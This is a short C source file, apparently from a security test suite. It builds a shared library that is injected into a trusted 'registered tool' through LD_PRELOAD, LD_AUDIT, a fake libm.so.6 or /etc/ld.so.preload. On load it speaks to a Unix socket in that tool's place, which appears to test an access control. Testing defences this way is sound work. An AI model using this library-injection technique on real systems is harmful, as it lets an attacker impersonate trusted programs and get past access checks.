/* A library that asks from inside the registered tool: KA_SOCKET, KA_REQUEST, reply to stdout, then ends the tool.
 * Loaded by LD_PRELOAD, LD_AUDIT, LD_LIBRARY_PATH (as libm.so.6) or a private /etc/ld.so.preload.
 */
#include "attack.h"

static void ask(void)
{
	const char *path = getenv("KA_SOCKET"), *request = getenv("KA_REQUEST");

	if (!path || !request)
		return;
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	dial_on(fd, path);
	tell(fd, request);
	hear(fd, 1);
	_exit(0);
}

__attribute__((constructor)) static void on_load(void)
{
	ask();
}

/* makes it an auditor for LD_AUDIT */
unsigned la_version(unsigned version);
unsigned la_version(unsigned version)
{
	ask();
	return version;
}
